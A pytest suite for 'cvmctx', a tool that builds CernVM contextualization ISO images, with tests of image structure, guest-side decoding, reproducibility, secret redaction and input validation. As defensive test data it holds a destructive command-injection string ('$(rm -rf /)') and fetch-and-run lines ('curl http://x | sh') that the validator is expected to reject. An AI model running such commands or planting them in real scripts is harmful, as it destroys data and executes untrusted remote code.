"""`cvmctx iso`, `inspect` and `domain`, checked with the readers the world uses: isoinfo,
xorriso, blkid, bash/sh, base64 -di (the guest's own decoder) and virt-xml-validate."""

from __future__ import annotations

import hashlib
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from conftest import EXAMPLES, Run

ATLAS = EXAMPLES / "atlas-panda"
PROXY = ATLAS / "x509up.example.pem"
PUBKEY = ATLAS / "root.pub.example"
ATLAS_FLAGS = [
    "--section", "cernvm",
    "--set", "cernvm.organisations=atlas",
    "--set", "cernvm.repositories=atlas,grid,atlas-condb,sft",
    "--set", "cernvm.users=panda:atlas:",
    "--set", "cernvm.contextualization_command=panda:/cvmfs/sft.cern.ch/lcg/external/"
    "experimental/panda-pilot/runPanda -m /tmp/eos/atlas/vm/copilot -t 1",
]  # fmt: skip
ENV = {"X509_USER_PROXY": str(PROXY), "ROOT_PUBKEY": str(PUBKEY), "SOURCE_DATE_EPOCH": "1700000000"}
SBIN = os.pathsep.join([os.environ.get("PATH", ""), "/usr/sbin", "/sbin"])


def tool(name: str) -> str:
    found = shutil.which(name, path=SBIN)
    assert found, f"{name} is missing: scripts/test.sh installs it"
    return found


def run(*argv: str | Path, cwd: Path | None = None) -> str:
    proc = subprocess.run([*map(str, argv)], capture_output=True, check=False, cwd=cwd)
    assert proc.returncode == 0, proc.stderr.decode()
    return proc.stdout.decode("utf-8", "replace")


@pytest.fixture
def atlas_iso(cvmctx: Run, tmp_path: Path) -> Path:
    out = tmp_path / "context.iso"
    proc = cvmctx("iso", "-o", out, *ATLAS_FLAGS, env=ENV)
    assert proc.returncode == 0, proc.stderr.decode()
    return out


def extract(iso: Path, into: Path) -> Path:
    run(tool("xorriso"), "-osirrox", "on", "-indev", iso, "-extract", "/", into)
    return into


# ------------------------------------------------------------------------------ the image


def test_isoinfo_sees_label_rock_ridge_and_joliet(atlas_iso: Path) -> None:
    out = run(tool("isoinfo"), "-d", "-i", atlas_iso)
    assert "Volume id: CONTEXT\n" in out
    assert "Joliet with UCS level 3 found" in out
    assert "Rock Ridge signatures version 1 found" in out
    assert "Logical block size is: 2048" in out


def test_rock_ridge_names_and_modes(atlas_iso: Path) -> None:
    listing = run(tool("isoinfo"), "-l", "-R", "-i", atlas_iso)
    rows = {line.split()[-1]: line.split()[0] for line in listing.splitlines() if line[:1] == "-"}
    assert rows == {
        "context.sh": "-rwxr-xr-x",
        "prolog.sh": "-rwxr-xr-x",
        "root.pub": "-rw-r--r--",
    }


def test_joliet_and_plain_iso9660_names(atlas_iso: Path) -> None:
    joliet = run(tool("isoinfo"), "-l", "-J", "-i", atlas_iso)
    plain = run(tool("isoinfo"), "-l", "-i", atlas_iso)
    assert {w for w in joliet.split() if "." in w and w[0].isalpha()} >= {
        "context.sh", "prolog.sh", "root.pub"
    }  # fmt: skip
    assert {"CONTEXT.SH;1", "PROLOG.SH;1", "ROOT.PUB;1"} <= set(plain.split())


def test_xorriso_extracts_the_exact_bytes(atlas_iso: Path, tmp_path: Path) -> None:
    root = extract(atlas_iso, tmp_path / "x")
    assert sorted(p.name for p in root.iterdir()) == ["context.sh", "prolog.sh", "root.pub"]
    assert (root / "root.pub").read_bytes() == PUBKEY.read_bytes()
    assert (root / "prolog.sh").read_bytes() == b""
    assert (root / "context.sh").read_bytes() == (ATLAS / "expected-context.sh").read_bytes()


def test_blkid_type_is_iso9660(atlas_iso: Path) -> None:
    out = run(tool("blkid"), "-o", "export", atlas_iso)
    assert "TYPE=iso9660\n" in out and "LABEL=CONTEXT\n" in out


def test_image_has_no_padding_beyond_the_format(atlas_iso: Path) -> None:
    # 16 system sectors, PVD + Joliet SVD + terminator, path tables, two root directories,
    # the Rock Ridge extension record and the files: a few dozen sectors, never genisoimage's 368 K.
    assert atlas_iso.stat().st_size <= 80 * 1024
    assert atlas_iso.stat().st_size % 2048 == 0


def test_image_is_private(atlas_iso: Path) -> None:
    assert atlas_iso.stat().st_mode & 0o777 == 0o600


# ------------------------------------------------------------------------------ the guest's view


def test_guest_decodes_the_user_data_byte_for_byte(
    cvmctx: Run, atlas_iso: Path, tmp_path: Path
) -> None:
    root = extract(atlas_iso, tmp_path / "x")
    context_sh = root / "context.sh"
    run("bash", "-n", context_sh)
    run("sh", "-n", context_sh)
    # setupContext in hepix_functions: source context.sh, then echo $EC2_USER_DATA | base64 -di
    decoded = subprocess.run(
        ["bash", "-c", '. ./context.sh && echo $EC2_USER_DATA | base64 -di'],
        capture_output=True, cwd=root, check=True, env={"PATH": "/usr/bin:/bin"},
    ).stdout  # fmt: skip
    built = cvmctx("build", *ATLAS_FLAGS, env=ENV)
    assert built.returncode == 0
    assert decoded == built.stdout
    assert b"x509-cert = LS0t" in decoded  # the PEM, base64 on one line: "-----BEGIN"


def test_root_pubkey_names_the_key_on_the_cd(atlas_iso: Path, tmp_path: Path) -> None:
    root = extract(atlas_iso, tmp_path / "x")
    value = subprocess.run(
        ["bash", "-c", '. ./context.sh && printf %s "$ROOT_PUBKEY:$ONE_CONTEXT_PATH"'],
        capture_output=True, cwd=root, check=True,
    ).stdout  # fmt: skip
    assert value == b"root.pub:/var/lib/amiconfig"


def test_extra_variables_come_back_exactly(cvmctx: Run, tmp_path: Path) -> None:
    nasty = "it's $(rm -rf /) `id` \\ \"q\" ; & | > été"
    out = tmp_path / "c.iso"
    proc = cvmctx("iso", "-o", out, "--var", f"SITE_NOTE={nasty}", "--var", "A=", env=ENV)
    assert proc.returncode == 0, proc.stderr.decode()
    root = extract(out, tmp_path / "x")
    got = subprocess.run(
        ["bash", "-c", '. ./context.sh && printf %s "$SITE_NOTE|$A"'],
        capture_output=True, cwd=root, check=True,
    ).stdout  # fmt: skip
    assert got.decode() == nasty + "|"


# ------------------------------------------------------------------------------ reproducible


def _sha(cvmctx: Run, tmp_path: Path, tz: str, name: str) -> str:
    out = tmp_path / name
    proc = cvmctx("iso", "-o", out, *ATLAS_FLAGS, env={**ENV, "TZ": tz})
    assert proc.returncode == 0, proc.stderr.decode()
    return hashlib.sha256(out.read_bytes()).hexdigest()


def test_same_inputs_same_bytes_in_any_time_zone(cvmctx: Run, tmp_path: Path) -> None:
    first = _sha(cvmctx, tmp_path, "UTC", "a.iso")
    os.utime(PROXY, (1, 1))  # input mtimes must not matter either
    try:
        second = _sha(cvmctx, tmp_path, "Asia/Tokyo", "b.iso")
    finally:
        os.utime(PROXY, None)
    assert first == second


def test_source_date_epoch_sets_the_dates(cvmctx: Run, tmp_path: Path) -> None:
    out = tmp_path / "c.iso"
    proc = cvmctx("iso", "-o", out, env={**ENV, "SOURCE_DATE_EPOCH": "1234567890", "TZ": "EST"})
    assert proc.returncode == 0
    data = out.read_bytes()
    assert data[16 * 2048 + 813 : 16 * 2048 + 830] == b"2009021323313000\x00"  # UTC
    listing = run(tool("isoinfo"), "-l", "-R", "-i", out)
    assert "Feb 13 2009" in listing


def test_default_dates_are_fixed(cvmctx: Run, tmp_path: Path) -> None:
    env = {k: v for k, v in ENV.items() if k != "SOURCE_DATE_EPOCH"}
    shas = set()
    for name, tz in (("a.iso", "UTC"), ("b.iso", "America/Los_Angeles")):
        out = tmp_path / name
        assert cvmctx("iso", "-o", out, env={**env, "TZ": tz}).returncode == 0
        shas.add(hashlib.sha256(out.read_bytes()).hexdigest())
        assert out.read_bytes()[16 * 2048 + 813 : 16 * 2048 + 830] == b"0" * 16 + b"\x00"
    assert len(shas) == 1


# ------------------------------------------------------------------------------ inspect, validate


def test_inspect_shows_files_variables_and_redacted_user_data(
    cvmctx: Run, atlas_iso: Path
) -> None:
    proc = cvmctx("inspect", atlas_iso)
    assert proc.returncode == 0, proc.stderr.decode()
    out = proc.stdout.decode()
    assert "iso → context.sh → base64 → text" in out
    assert re.search(r"-rwxr-xr-x +\d+  context\.sh", out)
    assert "ROOT_PUBKEY=root.pub" in out
    assert "x509-cert = ********" in out
    assert "0 errors, 0 warnings, 1 info" in out
    secret = PROXY.read_bytes().split(b"\n")[1][:20]
    assert secret not in proc.stdout and b"LS0tLS1CRUdJTi" not in proc.stdout


def test_inspect_show_secrets(cvmctx: Run, atlas_iso: Path) -> None:
    out = cvmctx("inspect", "--show-secrets", atlas_iso).stdout
    assert b"x509-cert = LS0tLS1CRUdJTi" in out


def test_inspect_json(cvmctx: Run, atlas_iso: Path) -> None:
    import json

    doc = json.loads(cvmctx("inspect", "--format", "json", atlas_iso).stdout)
    assert doc["layers"] == ["iso", "context.sh", "base64", "text"]
    assert doc["label"] == "CONTEXT"
    assert [f["name"] for f in doc["files"]] == ["context.sh", "prolog.sh", "root.pub"]
    assert doc["files"][0]["mode"] == 0o100755
    assert doc["variables"]["ROOT_PUBKEY"] == "root.pub"
    assert "x509-cert = ********" in doc["user_data"]
    assert [f["code"] for f in doc["findings"]] == ["cernvm.users.random"]


def test_validate_context_sh_and_iso(cvmctx: Run, atlas_iso: Path, tmp_path: Path) -> None:
    root = extract(atlas_iso, tmp_path / "x")
    for target in (atlas_iso, root / "context.sh"):
        proc = cvmctx("validate", "--strict", target)
        assert proc.returncode == 0, proc.stdout.decode()


def test_validate_iso_made_the_seeds_way(cvmctx: Run, tmp_path: Path) -> None:
    """mkisofs without -R/-J, as the seed does: Linux shows CONTEXT.SH;1 as context.sh."""
    tree = tmp_path / "tree"
    tree.mkdir()
    user_data = b"[amiconfig]\nplugins = cernvm\n[cernvm]\norganisations = atlas\n"
    import base64

    b64 = base64.b64encode(user_data).decode()
    (tree / "context.sh").write_text(
        f'ROOT_PUBKEY=root.pub\nEC2_USER_DATA="{b64}"\nONE_CONTEXT_PATH="/var/lib/amiconfig"\n'
    )
    (tree / "prolog.sh").write_bytes(b"")
    iso = tmp_path / "seed.iso"
    run(tool("genisoimage"), "-quiet", "-o", iso, tree)
    proc = cvmctx("validate", iso)
    out = proc.stdout.decode()
    assert proc.returncode == 1, out
    assert "iso → context.sh → base64 → text" in out
    assert "error[iso.root-pubkey-missing]" in out  # ROOT_PUBKEY=root.pub, but no root.pub


def test_validate_iso_without_context_sh(cvmctx: Run, tmp_path: Path) -> None:
    tree = tmp_path / "tree"
    tree.mkdir()
    (tree / "readme").write_text("nothing for the guest\n")
    iso = tmp_path / "empty.iso"
    run(tool("genisoimage"), "-quiet", "-R", "-J", "-o", iso, tree)
    proc = cvmctx("validate", iso)
    assert proc.returncode == 1
    assert "error[iso.no-context]" in proc.stdout.decode()


def test_validate_context_sh_that_runs_code(cvmctx: Run, tmp_path: Path) -> None:
    bad = tmp_path / "context.sh"
    bad.write_text('EC2_USER_DATA="$(curl -s http://example.org/x)"\ncurl http://x | sh\n')
    proc = cvmctx("validate", bad)
    out = proc.stdout.decode()
    assert proc.returncode == 1
    assert f"{bad}[context.sh]:1:" in out and "error[contextsh.expansion]" in out
    assert f"{bad}[context.sh]:2:1: error[contextsh.command]" in out


# ------------------------------------------------------------------------------ errors


def _fails(cvmctx: Run, tmp_path: Path, *args: str | Path, env: dict[str, str] | None = None,
           code: int = 2) -> str:  # fmt: skip
    out = tmp_path / "out" / "context.iso"
    out.parent.mkdir(exist_ok=True)
    proc = cvmctx("iso", "-o", out, *args, env={**ENV, **(env or {})})
    err = proc.stderr.decode()
    assert proc.returncode == code, err
    assert "Traceback" not in err
    assert list(out.parent.iterdir()) == []  # no image, no temporary file
    return err


@pytest.mark.parametrize(
    ("args", "env", "message"),
    [
        (["--root-pubkey", "/nonexistent/k.pub"], {}, "/nonexistent/k.pub: no such public key"),
        ([], {"ROOT_PUBKEY": "/nonexistent/k.pub"}, "no such public key file"),
        (["--root-pubkey", str(PROXY)], {}, "not an OpenSSH public key line"),
        (["--public-key", "not a key"], {}, "--public-key: give one OpenSSH public key line"),
        (["-s", "cernvm"], {"X509_USER_PROXY": "/nonexistent/x509"}, "unset X509_USER_PROXY"),
        (["--prolog", "/nonexistent/prolog"], {}, "/nonexistent/prolog: no such prolog.sh"),
        (["--file", "/nonexistent/f"], {}, "--file /nonexistent/f: /nonexistent/f: no such file"),
        (["--file", f"{PUBKEY}:context.sh"], {}, "two files named 'context.sh' on the CD"),
        (["--file", f"{PUBKEY}:.hidden"], {}, "'.hidden' is not a portable CD name"),
        (["--file", f"{PUBKEY}:my key"], {}, "'my key' is not a portable CD name"),
        (["--label", "context"], {}, "--label 'context': an ISO 9660 volume label"),
        (["--var", "PATH=/tmp"], {}, "PATH cannot be set in context.sh"),
        (["--var", "NOEQUALS"], {}, "--var NOEQUALS: write KEY=VALUE"),
        (["--var", "ROOT_PUBKEY=x"], {}, "set it with --root-pubkey"),
        ([], {"SOURCE_DATE_EPOCH": "yesterday"}, "SOURCE_DATE_EPOCH='yesterday'"),
    ],
)
def test_bad_inputs_give_one_line(
    cvmctx: Run, tmp_path: Path, args: list[str], env: dict[str, str], message: str
) -> None:
    err = _fails(cvmctx, tmp_path, *args, env=env)
    assert err.startswith("cvmctx: error: ") and err.count("\n") == 1, err
    assert message in err


def test_private_key_is_refused_without_echoing_it(cvmctx: Run, tmp_path: Path) -> None:
    key = tmp_path / "id_ed25519"
    key.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjE\n"
                   "-----END OPENSSH PRIVATE KEY-----\n")  # fmt: skip
    err = _fails(cvmctx, tmp_path, "--root-pubkey", key)
    assert "this is a PRIVATE key" in err and "b3BlbnNzaC1rZXktdjE" not in err


def test_extra_file_symlink_and_directory_refused(cvmctx: Run, tmp_path: Path) -> None:
    link = tmp_path / "link"
    link.symlink_to(PUBKEY)
    assert "is a symbolic link" in _fails(cvmctx, tmp_path, "--file", link)
    assert "is not a regular file" in _fails(cvmctx, tmp_path, "--file", tmp_path)


def test_two_extra_files_differing_in_case(cvmctx: Run, tmp_path: Path) -> None:
    err = _fails(cvmctx, tmp_path, "--file", f"{PUBKEY}:site.cfg", "--file", f"{PROXY}:SITE.cfg")
    assert "two files named 'SITE.cfg' on the CD ('site.cfg' is there too)" in err


def test_prolog_that_bash_cannot_parse(cvmctx: Run, tmp_path: Path) -> None:
    prolog = tmp_path / "prolog.sh"
    prolog.write_text("echo start\nif true; then\n")
    err = _fails(cvmctx, tmp_path, "--prolog", prolog, code=1)
    want = f"{prolog}:2: error[iso.script-syntax] bash cannot parse prolog.sh, which the guest"
    assert want in err


def test_extra_files_and_epilog_land_on_the_cd(cvmctx: Run, tmp_path: Path) -> None:
    epilog = tmp_path / "ep.sh"
    epilog.write_text("echo done\n")
    site = tmp_path / "site.tar.gz"
    site.write_bytes(bytes(range(256)) * 10)
    out = tmp_path / "c.iso"
    proc = cvmctx("iso", "-o", out, "--epilog", epilog, "--file", site, "--file",
                  f"{PUBKEY}:admin.pub", "--label", "CONTEXT_INFO", env=ENV)  # fmt: skip
    assert proc.returncode == 0, proc.stderr.decode()
    root = extract(out, tmp_path / "x")
    assert (root / "epilog.sh").read_bytes() == epilog.read_bytes()
    assert (root / "site.tar.gz").read_bytes() == site.read_bytes()
    assert (root / "admin.pub").read_bytes() == PUBKEY.read_bytes()
    assert "Volume id: CONTEXT_INFO" in run(tool("isoinfo"), "-d", "-i", out)


# ------------------------------------------------------------------------------ libvirt


def test_libvirt_disk_and_domain_validate(cvmctx: Run, atlas_iso: Path, tmp_path: Path) -> None:
    again = tmp_path / "again.iso"
    disk = cvmctx("iso", "-o", again, "--libvirt-disk", *ATLAS_FLAGS, env=ENV)
    assert disk.returncode == 0
    assert disk.stdout.decode() == (
        "<disk type='file' device='cdrom'>\n"
        "  <driver name='qemu' type='raw'/>\n"
        f"  <source file='{again}'/>\n"
        "  <target dev='hdb'/>\n"
        "  <readonly/>\n"
        "</disk>\n"
    )
    xml = tmp_path / "domain.xml"
    proc = cvmctx("domain", "--name", "cernvm-atlas", "--disk", tmp_path / "cernvm.hdd",
                  "--iso", atlas_iso, "--memory", "2048", "-o", xml)  # fmt: skip
    assert proc.returncode == 0, proc.stderr.decode()
    assert f"<source file='{atlas_iso}'/>" in xml.read_text()
    run(tool("virt-xml-validate"), xml, "domain")


def test_epilog_with_crlf(cvmctx: Run, tmp_path: Path) -> None:
    epilog = tmp_path / "epilog.sh"
    epilog.write_bytes(b"echo one\r\necho two\r\n")
    err = _fails(cvmctx, tmp_path, "--epilog", epilog, code=1)
    assert f"{epilog}:1: error[iso.script-crlf] epilog.sh has CRLF line ends" in err


def test_only_cd_image_imports_pycdlib() -> None:
    package = Path(__file__).resolve().parent.parent / "cvmctx"
    importers = sorted(
        p.relative_to(package).as_posix() for p in package.rglob("*.py")
        if re.search(r"^\s*(import|from)\s+pycdlib", p.read_text(), re.MULTILINE)
    )  # fmt: skip
    assert importers == ["cd/image.py"]
